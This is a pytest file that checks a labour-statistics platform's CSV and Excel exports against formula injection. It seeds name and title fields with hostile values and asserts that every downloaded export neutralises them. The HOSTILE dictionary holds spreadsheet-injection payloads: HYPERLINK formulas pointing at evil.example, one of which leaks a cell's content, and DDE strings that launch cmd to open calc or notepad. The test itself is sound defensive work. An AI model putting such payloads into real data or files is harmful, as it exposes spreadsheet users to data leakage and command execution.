"""No file the platform writes can run a formula in its reader's spreadsheet (issue 10, item 6).

Hostile text is put where people type it (an employer's name, a vacancy title, a course name,
a village, an occupation, an institution, the source of labour-force figures), then every
CSV file and workbook the platform offers is downloaded: the drill-down CSVs of the
dashboard, the yearly report (workbook, zip of CSVs, one CSV), the supply-and-demand CSV, the
trainee and result exports and the import templates. In a CSV, a cell may start with `=`,
`+`, `-`, `@`, a tab or a carriage return only when it is a number; in a workbook no cell is
a formula, and text with such a start carries the quote-prefix style.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.engine import Engine
from sqlmodel import Session

from models.formula_guard import FORMULA_STARTS, neutralise
from models.monitoring.store import refresh_year
from models.tables import (
    Course,
    Employer,
    Institution,
    LabourForceFigure,
    Person,
    TrainingOccupation,
    Vacancy,
)
from seed.reference import load_reference_data
from tests.html import find_all, parse
from tests.web.dashboard_world import YEAR, build_world
from tests.web.helpers import make_account, sign_in

HOSTILE = {
    "employer": '=HYPERLINK("http://evil.example/?q="&A2,"Xem hồ sơ")',
    "vacancy": "-1+1+cmd|' /C calc'!A0",
    "course": '=HYPERLINK("http://evil.example","Khóa học")',
    "village": '=HYPERLINK("http://evil.example","Bản")',
    "occupation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "institution": "+1+cmd|' /C calc'!A0",
    "source": "=cmd|' /C notepad'!A0",
}
ROOT = Path(__file__).resolve().parents[2]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_cells(content: bytes) -> list[str]:
    reader = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in reader for cell in row]


def csv_offenders(content: bytes) -> list[str]:
    """Cells a spreadsheet would run: a formula start, and not a number."""
    return [c for c in csv_cells(content) if c.startswith(FORMULA_STARTS) and not _is_number(c)]


def workbook_texts(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def workbook_offenders(content: bytes) -> list[str]:
    """Formula cells, and text with a formula start stored without the quote prefix."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        raw = [name for name in sheets if re.search(rb"<(\w+:)?f[ >]", archive.read(name))]
    book = load_workbook(io.BytesIO(content))
    found = [f"formula in {name}" for name in raw]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate} is a formula")
                text = cell.value
                hostile = isinstance(text, str) and text.startswith(FORMULA_STARTS)
                if hostile and (cell.data_type != "s" or not cell.quotePrefix):
                    found.append(f"{sheet.title}!{cell.coordinate}: {text!r}")
    return found


@pytest.fixture
def world(session: Session, engine: Engine):
    """The dashboard's year, with hostile text wherever people type names and titles."""
    load_reference_data(session)
    built = build_world(session)
    changes = [
        (Employer, Employer.id == built.employer_id, {"name": HOSTILE["employer"]}),
        (Vacancy, Vacancy.employer_id == built.employer_id, {"title": HOSTILE["vacancy"]}),
        (Course, Course.code == "MAY25", {"name": HOSTILE["course"]}),
        (Person, Person.id.in_(built.people.values()), {"village": HOSTILE["village"]}),  # type: ignore[union-attr]
        (
            TrainingOccupation,
            TrainingOccupation.name == "May công nghiệp",
            {"name": HOSTILE["occupation"]},
        ),
        (
            Institution,
            Institution.name == "Trường Cao đẳng Điện Biên",
            {"name": HOSTILE["institution"]},
        ),
        (LabourForceFigure, LabourForceFigure.year == YEAR, {"source": HOSTILE["source"]}),
    ]
    for table, where, values in changes:
        assert session.execute(update(table).where(where).values(**values)).rowcount  # type: ignore[arg-type, attr-defined]
    session.commit()
    refresh_year(engine, YEAR)
    return built


def _download(client: TestClient, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, (url, response.text[:500])
    return response.content


def _official_files(client: TestClient, session: Session) -> dict[str, bytes]:
    sign_in(client, make_account(session, "official", "can_bo_xuat"))
    session.rollback()
    page = parse(_download(client, f"/dashboard?year={YEAR}").decode())
    drills = sorted(
        {
            str(node.attributes.get("href"))
            for node in find_all(page, "a[href^='/dashboard/figures/']")
        }
    )
    assert len(drills) >= 5
    files = {f"{link}.csv": _download(client, f"{link}.csv") for link in drills}
    for url in (
        f"/reports/{YEAR}.xlsx",
        f"/reports/{YEAR}.zip",
        f"/supply-demand.csv?year={YEAR}",
        "/labour-force/template",
    ):
        files[url] = _download(client, url)
    with zipfile.ZipFile(io.BytesIO(files.pop(f"/reports/{YEAR}.zip"))) as archive:
        for name in archive.namelist():
            files[f"/reports/{YEAR}.zip:{name}"] = archive.read(name)
    first_table = next(name for name in files if name.endswith(".csv") and ":" in name)
    table_id = first_table.rsplit("-", 1)[1].removesuffix(".csv")
    files["one report csv"] = _download(client, f"/reports/{YEAR}/{table_id}.csv")
    return files


def _centre_files(client: TestClient, session: Session) -> dict[str, bytes]:
    college = session.execute(
        Institution.__table__.select().where(Institution.name == HOSTILE["institution"])  # type: ignore[attr-defined]
    ).one()
    course = session.execute(Course.__table__.select().where(Course.code == "MAY25")).one()  # type: ignore[attr-defined]
    client.cookies.clear()
    client.headers.clear()
    sign_in(client, make_account(session, "institution", "truong_xuat", institution_id=college.id))
    session.rollback()
    urls = [
        f"/exports/trainees?course_id={course.id}",
        f"/exports/trainees?institution_id={college.id}",
        f"/exports/results?course_id={course.id}",
        "/imports/template/trainees",
        "/imports/template/results",
        "/imports/template/follow_ups",
        f"/supply-demand.csv?occupation={course.occupation_id}",
    ]
    return {url: _download(client, url) for url in urls}


def test_no_cell_of_any_export_can_run_as_a_formula(world, client, session) -> None:
    files = {**_official_files(client, session), **_centre_files(client, session)}
    offenders = {}
    texts: list[str] = []
    for name, content in files.items():
        if content.startswith(b"PK"):
            found = workbook_offenders(content)
            texts += workbook_texts(content)
        else:
            found = csv_offenders(content)
            texts += csv_cells(content)
        if found:
            offenders[name] = found
    assert offenders == {}
    # The hostile text did reach the files (as text, neutralised in the CSVs).
    written = set(texts)
    for where, hostile in HOSTILE.items():
        assert hostile in written or neutralise(hostile) in written, where
    assert neutralise(HOSTILE["vacancy"]) in written  # the drill-down CSV of vacancies


def test_the_trainee_export_keeps_hostile_text_as_text(world, client, session) -> None:
    files = _centre_files(client, session)
    content = next(v for k, v in files.items() if k.startswith("/exports/trainees?course_id"))
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    for key in ("village", "course"):
        cell = cells[HOSTILE[key]]  # the very text, without a visible quote
        assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_every_csv_and_workbook_writer_goes_through_the_guard() -> None:
    """A new writer can't bypass the helper: `csv.writer` is called only by it, and every
    module that builds an openpyxl workbook uses it."""
    sources = {
        path: path.read_text(encoding="utf-8")
        for package in ("web", "models", "cli")
        for path in (ROOT / package).rglob("*.py")
    }
    guard = ROOT / "models" / "formula_guard.py"
    csv_writers = [p for p, text in sources.items() if "csv.writer(" in text and p != guard]
    assert csv_writers == []
    builders = [p for p, text in sources.items() if re.search(r"\bWorkbook\(", text)]
    assert builders, "the scan finds the workbook writers"
    unguarded = [p for p in builders if "models.formula_guard import" not in sources[p]]
    assert unguarded == []
